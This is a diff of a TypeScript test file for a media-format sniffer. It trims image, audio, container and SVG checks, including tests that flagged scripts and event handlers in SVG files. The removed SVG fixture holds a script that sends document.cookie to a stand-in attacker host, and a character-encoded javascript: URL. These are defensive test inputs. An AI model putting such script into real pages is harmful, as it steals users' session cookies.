@@ -1,7 +1,7 @@
-// Builds tiny headers in code for every format the sniffer knows, then checks what it reads, and that no input makes it throw.
+// Builds tiny headers in code for every format the sniffer knows, then checks what the app reads from them, and that no input makes it throw.
 
 import { describe, expect, it } from 'vitest';
-import { mimeTypeOf, sniff, type SniffResult } from './sniff';
+import { sniff, type SniffResult } from './sniff';
 
 type Part = number[] | Uint8Array | string;
 
@@ -52,14 +52,6 @@ const JFIF = jpegSegment(0xe0, bytes('JFIF\0', [1, 1, 0, 0, 1, 0, 1, 0, 0]));
 
 function sof0(width: number, height: number): Uint8Array {
   return jpegSegment(0xc0, [8, ...be16(height), ...be16(width), 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
-}
-
-function exifApp1(orientation: number, order: 'II' | 'MM'): Uint8Array {
-  const w16 = order === 'II' ? le16 : be16;
-  const w32 = order === 'II' ? le32 : be32;
-  // One IFD entry: Orientation (0x0112), SHORT, count 1, value padded to four bytes.
-  const tiff = bytes(order, w16(42), w32(8), w16(1), w16(0x0112), w16(3), w32(1), w16(orientation), [0, 0], w32(0));
-  return jpegSegment(0xe1, bytes('Exif\0\0', tiff));
 }
 
 function jpeg(width: number, height: number, ...before: Uint8Array[]): Uint8Array {
@@ -181,22 +173,11 @@ describe('images', () => {
     expect(sniff(jpeg(640, 480))).toEqual({ kind: 'image', format: 'jpeg', width: 640, height: 480 });
   });
 
-  it.each(['II', 'MM'] as const)('reads EXIF orientation 6 (%s byte order)', (order) => {
-    expect(sniff(jpeg(4032, 3024, exifApp1(6, order)))).toEqual({ kind: 'image', format: 'jpeg', width: 4032, height: 3024, orientation: 6 });
-  });
-
-  it('ignores an orientation outside 1–8', () => {
-    expect(sniff(jpeg(10, 10, exifApp1(9, 'II')))).toEqual({ kind: 'image', format: 'jpeg', width: 10, height: 10 });
-  });
-
   it('calls a whole JPEG that ends before its frame header truncated, and a prefix of one just sizeless', () => {
-    const full = jpeg(640, 480, exifApp1(6, 'MM'));
-    const cut = full.subarray(0, 30); // inside the EXIF segment
+    const full = jpeg(640, 480);
+    const cut = full.subarray(0, 12); // inside the JFIF segment
     expect(sniff(cut)).toMatchObject({ kind: 'corrupt', format: 'jpeg', reason: 'truncated' });
     expect(sniff(cut, full.length)).toEqual({ kind: 'image', format: 'jpeg' });
-    // Orientation is known once its segment has been read, even if the frame header is still out of sight.
-    const afterExif = 2 + JFIF.length + exifApp1(6, 'MM').length + 3;
-    expect(sniff(full.subarray(0, afterExif), full.length)).toEqual({ kind: 'image', format: 'jpeg', orientation: 6 });
   });
 
   it('calls a JPEG whose scan comes before any frame header corrupt', () => {
@@ -217,7 +198,7 @@ describe('images', () => {
     const vp8x = riff(bytes('VP8X', le32(10), [0x10, 0, 0, 0], [0xff, 0x0f, 0x00], [0x3f, 0x00, 0x00]));
     expect(sniff(vp8)).toEqual({ kind: 'image', format: 'webp', width: 300, height: 150 });
     expect(sniff(vp8l)).toEqual({ kind: 'image', format: 'webp', width: 400, height: 250 });
-    expect(sniff(vp8x)).toEqual({ kind: 'image', format: 'webp', width: 4096, height: 64, animated: false });
+    expect(sniff(vp8x)).toEqual({ kind: 'image', format: 'webp', width: 4096, height: 64 });
   });
 
   it('reads BMP sizes, including a top-down (negative height) bitmap', () => {
@@ -234,54 +215,19 @@ describe('images', () => {
 });
 
 describe('SVG', () => {
-  const svgWithScript = `<?xml version="1.0" encoding="UTF-8"?>
+  it('finds the root element after a prolog, comment and doctype with an internal subset', () => {
+    const svg = `<?xml version="1.0" encoding="UTF-8"?>
 <!-- drawn by hand -->
 <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [ <!ENTITY ns "x"> ]>
-<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="document.title='pwned'">
-  <rect width="64" height="64" fill="red"/>
-  <script><![CDATA[ fetch('https://attacker.invalid/' + document.cookie) ]]></script>
-</svg>`;
-
-  it('finds <script> and an onload handler after a prolog, comment and doctype', () => {
-    expect(sniff(bytes(svgWithScript))).toEqual({
-      kind: 'image',
-      format: 'svg',
-      width: 64,
-      height: 64,
-      svgActive: { script: true, eventHandlers: true, javascriptUrls: false, complete: true },
-    });
-  });
-
-  it('reports a plain SVG as inert and sizes it from its viewBox', () => {
-    const plain = '\ufeff  <svg viewBox="0 0 120 80" xmlns="http://www.w3.org/2000/svg"><circle cx="5" cy="5" r="4"/></svg>';
-    expect(sniff(new TextEncoder().encode(plain), 10_000)).toEqual({
-      kind: 'image',
-      format: 'svg',
-      width: 120,
-      height: 80,
-      svgActive: { script: false, eventHandlers: false, javascriptUrls: false, complete: false },
-    });
-  });
-
-  it('sees javascript: URLs through character references and whitespace', () => {
-    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><a href=" &#x6A;ava&#9;script&colon;alert(1)"><text>hi</text></a></svg>';
-    expect(sniff(bytes(svg))).toMatchObject({ svgActive: { script: false, eventHandlers: false, javascriptUrls: true } });
-  });
-
-  it('counts a prefixed svg:script and an animated-in handler', () => {
-    const svg = '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>1</svg:script><set attributeName="onmouseover" to="x"/></svg:svg>';
-    expect(sniff(bytes(svg))).toMatchObject({ svgActive: { script: true, eventHandlers: true } });
-  });
-
-  it('ignores what sits inside comments', () => {
-    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><!-- <script>alert(1)</script> --></svg>';
-    expect(sniff(bytes(svg))).toMatchObject({ svgActive: { script: false, eventHandlers: false, javascriptUrls: false } });
+<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="document.title='pwned'"><script>1</script></svg>`;
+    expect(sniff(bytes(svg))).toEqual({ kind: 'image', format: 'svg' });
+    expect(sniff(new TextEncoder().encode('\ufeff  <svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>'), 10_000)).toEqual({ kind: 'image', format: 'svg' });
   });
 
   it('reads UTF-16 SVG', () => {
     const text = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="20"/>';
     const utf16 = bytes([0xff, 0xfe], Array.from(text).flatMap((c) => le16(c.charCodeAt(0))));
-    expect(sniff(utf16)).toMatchObject({ kind: 'image', format: 'svg', width: 10, height: 20 });
+    expect(sniff(utf16)).toEqual({ kind: 'image', format: 'svg' });
   });
 
   it('does not take HTML or other XML for SVG', () => {
@@ -292,61 +238,36 @@ describe('SVG', () => {
 });
 
 describe('audio', () => {
-  it('reads WAV fmt fields and an exact duration', () => {
+  it('times a WAV from its header, whatever its layout', () => {
     const file = wav({ channels: 2, sampleRate: 44_100, bits: 16, dataBytes: 44_100 * 4 * 3 });
-    expect(sniff(file.subarray(0, 1024), file.length)).toEqual({
-      kind: 'audio',
-      format: 'wav',
-      formatCode: 1,
-      codec: 'pcm',
-      channels: 2,
-      sampleRate: 44_100,
-      bitsPerSample: 16,
-      dataBytes: 44_100 * 4 * 3,
-      durationSeconds: 3,
-    });
+    expect(sniff(file.subarray(0, 1024), file.length)).toEqual({ kind: 'audio', format: 'wav', durationSeconds: 3 });
+    expect(sniff(wav({ formatCode: 3, bits: 32, sampleRate: 8000, dataBytes: 32_000 }))).toEqual({ kind: 'audio', format: 'wav', durationSeconds: 1 });
   });
 
-  it('takes a two-hour WAV header at its word, and flags that the file is shorter', () => {
+  it('takes a two-hour WAV header at its word, even when the file is shorter', () => {
     const twoHours = 2 * 3600 * 16_000 * 2;
-    const file = wav({ dataBytes: twoHours, carried: 3200 });
-    expect(sniff(file)).toMatchObject({ kind: 'audio', format: 'wav', durationSeconds: 7200, sampleRate: 16_000, channels: 1, truncated: true });
-    // The same header as a prefix of a file that really is that long is not truncated.
-    expect(sniff(file, 44 + twoHours)).not.toHaveProperty('truncated');
+    expect(sniff(wav({ dataBytes: twoHours, carried: 3200 }))).toEqual({ kind: 'audio', format: 'wav', durationSeconds: 7200 });
   });
 
-  it('steps over odd-sized chunks before fmt, and estimates a streamed WAV from the file size', () => {
+  it('steps over odd-sized chunks before fmt, and times a streamed WAV from the file size', () => {
     const list = bytes('LIST', le32(5), 'INFOx', [0]); // odd size: one pad byte
     const file = wav({ dataBytes: 0xffffffff, carried: 0, before: list });
-    const result = sniff(file, file.length + 32_000);
-    expect(result).toMatchObject({ kind: 'audio', format: 'wav', durationSeconds: 1, durationEstimated: true });
+    expect(sniff(file, file.length + 32_000)).toEqual({ kind: 'audio', format: 'wav', durationSeconds: 1 });
   });
 
-  it('reads float WAV and rejects zero channels', () => {
-    expect(sniff(wav({ formatCode: 3, bits: 32, sampleRate: 8000, dataBytes: 32_000 }))).toMatchObject({ codec: 'float', durationSeconds: 1 });
+  it('calls a WAV with zero channels corrupt', () => {
     expect(sniff(wav({ channels: 0, dataBytes: 4 }))).toMatchObject({ kind: 'corrupt', format: 'wav', reason: 'malformed' });
   });
 
   it('reads an MP3 after an ID3 tag and estimates its duration from the bitrate', () => {
     const frames = Array.from({ length: 4 }, () => mp3Frame());
-    const head = bytes(id3(200), ...frames);
     const size = 210 + 16_000 * 60; // one minute at 128 kb/s
-    expect(sniff(head, size)).toEqual({
-      kind: 'audio',
-      format: 'mp3',
-      sampleRate: 44_100,
-      channels: 2,
-      bitrate: 128_000,
-      durationSeconds: 60,
-      durationEstimated: true,
-    });
+    expect(sniff(bytes(id3(200), ...frames), size)).toEqual({ kind: 'audio', format: 'mp3', durationSeconds: 60 });
   });
 
   it('takes an MP3 duration from the Xing frame count when present', () => {
     const xing = mp3Frame(bytes(zeros(32), 'Xing', be32(1), be32(1000)));
-    const result = sniff(bytes(xing, mp3Frame(), mp3Frame()), 5_000_000);
-    expect(result).toMatchObject({ format: 'mp3', durationSeconds: (1000 * 1152) / 44_100 });
-    expect(result).not.toHaveProperty('durationEstimated');
+    expect(sniff(bytes(xing, mp3Frame(), mp3Frame()), 5_000_000)).toEqual({ kind: 'audio', format: 'mp3', durationSeconds: (1000 * 1152) / 44_100 });
   });
 
   it('sniffs a text file named .mp3 as unknown', () => {
@@ -358,69 +279,38 @@ describe('audio', () => {
     expect(sniff(bytes(mp3Frame(), [0x00, 0x11, 0x22, 0x33]))).toEqual({ kind: 'unknown' });
   });
 
-  it('reads FLAC STREAMINFO', () => {
+  it('times FLAC from STREAMINFO', () => {
     const flac = bytes('fLaC', [0x80, 0, 0, 34], flacStreamInfo(44_100, 2, 16, 441_000));
-    expect(sniff(flac, 1_000_000)).toEqual({
-      kind: 'audio',
-      format: 'flac',
-      sampleRate: 44_100,
-      channels: 2,
-      bitsPerSample: 16,
-      totalSamples: 441_000,
-      durationSeconds: 10,
-    });
+    expect(sniff(flac, 1_000_000)).toEqual({ kind: 'audio', format: 'flac', durationSeconds: 10 });
   });
 
-  it('tells Opus from Vorbis in Ogg, and times a whole Opus file from its last page', () => {
-    const opus = bytes(
-      oggPage(2, 0, 77, 0, opusHead(1, 312)),
-      oggPage(0, 0, 77, 1, bytes('OpusTags', zeros(8))),
-      oggPage(4, 3 * 48_000 + 312, 77, 2, new Uint8Array(300)),
-    );
-    expect(sniff(opus)).toEqual({ kind: 'audio', format: 'ogg', codec: 'opus', sampleRate: 48_000, channels: 1, durationSeconds: 3 });
-    expect(sniff(opus.subarray(0, 200), opus.length)).toEqual({ kind: 'audio', format: 'ogg', codec: 'opus', sampleRate: 48_000, channels: 1 });
+  it('calls Ogg with a sound codec audio, and Ogg Theora a video container', () => {
+    const opus = bytes(oggPage(2, 0, 77, 0, opusHead(1, 312)), oggPage(0, 0, 77, 1, bytes('OpusTags', zeros(8))));
+    expect(sniff(opus, 100_000)).toEqual({ kind: 'audio', format: 'ogg' });
     const vorbis = oggPage(2, 0, 5, 0, bytes([1], 'vorbis', le32(0), [2], le32(22_050), zeros(13)));
-    expect(sniff(vorbis, 100_000)).toEqual({ kind: 'audio', format: 'ogg', codec: 'vorbis', sampleRate: 22_050, channels: 2 });
-    expect(sniff(oggPage(2, 0, 5, 0, bytes([0x80], 'theora', zeros(40))))).toEqual({
-      kind: 'container',
-      format: 'ogg',
-      tracks: [{ type: 'video', codec: 'theora' }],
-    });
+    expect(sniff(vorbis, 100_000)).toEqual({ kind: 'audio', format: 'ogg' });
+    expect(sniff(oggPage(2, 0, 5, 0, bytes([0x80], 'theora', zeros(40))))).toEqual({ kind: 'container', format: 'ogg', tracks: ['video'] });
   });
 
-  it('reads ADTS AAC', () => {
-    const frames = bytes(...Array.from({ length: 10 }, () => adtsFrame(400)));
-    expect(sniff(frames)).toEqual({ kind: 'audio', format: 'aac', sampleRate: 44_100, channels: 2, durationSeconds: (10 * 1024) / 44_100 });
-    expect(sniff(frames, frames.length * 2)).toMatchObject({ durationSeconds: (20 * 1024) / 44_100, durationEstimated: true });
+  it('recognises ADTS AAC (its length is left to the browser)', () => {
+    expect(sniff(bytes(...Array.from({ length: 10 }, () => adtsFrame(400))))).toEqual({ kind: 'audio', format: 'aac' });
   });
 });
 
 describe('containers', () => {
-  it('reads a MediaRecorder-style WebM: doc type, tracks and (when written) duration', () => {
-    const audio = sniff(webm('webm', [[2, 'A_OPUS']]), 1_000_000);
-    expect(audio).toEqual({ kind: 'container', format: 'webm', docType: 'webm', tracks: [{ type: 'audio', codec: 'A_OPUS' }] });
-    expect(mimeTypeOf(audio)).toBe('audio/webm');
-    const video = sniff(webm('webm', [[1, 'V_VP8'], [2, 'A_OPUS']], 2500));
-    expect(video).toMatchObject({ format: 'webm', durationSeconds: 2.5, tracks: [{ type: 'video' }, { type: 'audio' }] });
-    expect(mimeTypeOf(video)).toBe('video/webm');
+  it('reads a MediaRecorder-style WebM: its tracks tell sound from video, and its duration when written', () => {
+    expect(sniff(webm('webm', [[2, 'A_OPUS']]), 1_000_000)).toEqual({ kind: 'container', format: 'webm', tracks: ['audio'] });
+    expect(sniff(webm('webm', [[1, 'V_VP8'], [2, 'A_OPUS']], 2500))).toEqual({ kind: 'container', format: 'webm', tracks: ['video', 'audio'], durationSeconds: 2.5 });
     expect(sniff(webm('matroska', []))).toMatchObject({ kind: 'container', format: 'matroska' });
+    expect(sniff(webm('notwebm', []))).toEqual({ kind: 'unknown' });
   });
 
-  it('reads MP4 brands, and tracks and duration from a leading moov', () => {
+  it('reads tracks and duration from an MP4 whose moov comes first, and nothing from one whose moov is out of sight', () => {
     const m4a = bytes(ftyp('M4A ', 'M4A ', 'isom'), mp4Moov(5, 'soun', 'mp4a'), box('mdat', zeros(16)));
-    const result = sniff(m4a);
-    expect(result).toEqual({
-      kind: 'container',
-      format: 'mp4',
-      brand: 'M4A ',
-      compatibleBrands: ['M4A ', 'isom'],
-      durationSeconds: 5,
-      tracks: [{ type: 'audio', codec: 'mp4a' }],
-    });
-    expect(mimeTypeOf(result)).toBe('audio/mp4');
-    const mov = sniff(bytes(ftyp('qt  ', 'qt  '), box('mdat', zeros(64))), 10_000_000);
-    expect(mov).toEqual({ kind: 'container', format: 'mov', brand: 'qt  ', compatibleBrands: ['qt  '] });
-    expect(mimeTypeOf(mov)).toBe('video/quicktime');
+    expect(sniff(m4a)).toEqual({ kind: 'container', format: 'mp4', durationSeconds: 5, tracks: ['audio'] });
+    const mp4 = bytes(ftyp('isom', 'isom', 'mp41'), mp4Moov(700, 'vide', 'avc1'));
+    expect(sniff(mp4)).toEqual({ kind: 'container', format: 'mp4', durationSeconds: 700, tracks: ['video'] });
+    expect(sniff(bytes(ftyp('qt  ', 'qt  '), box('mdat', zeros(64))), 10_000_000)).toEqual({ kind: 'container', format: 'mov' });
   });
 });
 
@@ -451,8 +341,7 @@ describe('robustness', () => {
 
   const samples: Uint8Array[] = [
     pngHeader(30_000, 30_000),
-    jpeg(640, 480, exifApp1(6, 'II')),
-    jpeg(8, 8, exifApp1(3, 'MM')),
+    jpeg(640, 480),
     bytes('GIF89a', le16(320), le16(200), [0xf7, 0, 0]),
     bytes('RIFF', le32(30), 'WEBP', 'VP8X', le32(10), [0x12, 0, 0, 0], [0xff, 0x0f, 0x00], [0x3f, 0x00, 0x00]),
     bytes('RIFF', le32(30), 'WEBP', 'VP8 ', le32(20), [0x30, 0x01, 0x00, 0x9d, 0x01, 0x2a], le16(300), le16(150)),
@@ -480,10 +369,9 @@ describe('robustness', () => {
         expect(value, key).toBeGreaterThanOrEqual(0);
       }
     }
-    if (result.kind === 'image' && result.format !== 'svg') {
+    if (result.kind === 'image') {
       for (const n of [result.width, result.height]) if (n !== undefined) expect(Number.isInteger(n) && n > 0).toBe(true);
     }
-    mimeTypeOf(result);
   }
 
   it('recognises each sample (the fuzz below mutates these)', () => {
